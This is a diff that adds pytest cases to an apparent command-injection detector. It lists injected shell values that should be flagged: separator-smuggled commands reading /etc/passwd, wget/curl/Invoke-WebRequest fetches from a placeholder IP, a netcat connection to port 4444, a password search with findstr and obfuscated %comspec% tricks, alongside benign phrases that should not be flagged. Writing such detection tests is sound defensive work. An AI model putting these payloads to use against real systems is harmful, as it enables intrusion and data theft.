@@ -167,3 +167,90 @@ def test_windows_account_firewall_and_registry_commands_and_ssi_exec_are_cmdi(va
 )
 def test_sentences_near_those_commands_are_not_cmdi(value: str) -> None:
     assert "cmdi" not in payload_kinds(query="q=" + quote(value))
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        ";mkfifo /tmp/f",
+        ";xterm -display 10.0.0.1:1",
+        "|nmap -sV 10.0.0.1",
+        ";printenv",
+        ";lsb_release -a",
+        ";find / -name x",
+        "&type c:\\windows\\win.ini",
+        ";dd if=/etc/passwd",
+        ";strings /etc/passwd",
+        ";Invoke-WebRequest http://203.0.113.9/x",
+        "|iwr http://203.0.113.9/x",
+        ";Get-Process",
+        "&Start-Process calc",
+    ],
+)
+def test_more_unix_and_powershell_commands_after_a_separator_are_cmdi(value: str) -> None:
+    assert "cmdi" in payload_kinds(query="c=" + quote(value, safe=""))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "date format dd/mm; at 5 pm",
+        "find / replace in word",
+        "sit; fetch the ball",
+        "a get-together; start-up day",
+        "which one?; strings attached",
+    ],
+)
+def test_words_that_are_also_those_commands_stay_quiet(text: str) -> None:
+    assert "cmdi" not in payload_kinds(query="q=" + quote(text))
+
+
+def test_a_data_uri_is_not_the_base64_command() -> None:
+    image = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg"
+    assert "cmdi" not in payload_kinds(query="avatar=" + quote(image, safe=""))
+    assert "cmdi" in payload_kinds(query="c=" + quote(";base64 -d /tmp/x", safe=""))
+
+
+@pytest.mark.parametrize("value", ["%comspec% /c dir", "$'\\x63\\x61\\x74' /etc/passwd"])
+def test_the_windows_shell_variable_and_bash_ansi_c_quoting_are_cmdi(value: str) -> None:
+    assert "cmdi" in payload_kinds(query="c=" + quote(value, safe=""))
+    assert "cmdi" not in payload_kinds(query="q=" + quote("100% comspec and $'5' off"))
+
+
+WINDOWS_AND_NETWORK = [
+    "wget http://203.0.113.9/x",
+    "curl https://203.0.113.9/y.sh",
+    "nc 10.0.0.1 4444",
+    "ping 127.0.0.1",
+    "|findstr /s password *.txt",
+    "&vssadmin list shadows",
+    "&tree /f c:\\",
+    "|attrib +h x",
+    "&icacls c:\\x",
+    ";seq 1 10",
+    ";expr 1 + 1",
+]
+NEAR_COMMANDS = [
+    "wget vs curl",
+    "ping pong table",
+    "how to use findstr",
+    "family tree /genealogy",
+    "print / replace",
+    "man / woman",
+    "ver 2.1",
+]
+
+
+@pytest.mark.parametrize(
+    ("value", "is_cmdi"),
+    [(v, True) for v in WINDOWS_AND_NETWORK] + [(t, False) for t in NEAR_COMMANDS],
+)
+def test_windows_commands_and_network_tools_given_a_target_are_cmdi_their_names_are_not(
+    value: str, is_cmdi: bool
+) -> None:
+    assert ("cmdi" in payload_kinds(query="c=" + quote(value, safe=""))) is is_cmdi
+
+
+def test_a_windows_variable_cut_to_a_substring_is_cmdi() -> None:
+    assert "cmdi" in payload_kinds(query="c=" + quote("&%comspec:~-7,1%ho%comspec:~-1%", safe=""))
+    assert "cmdi" not in payload_kinds(query="q=" + quote("50%:~1,2% off"))
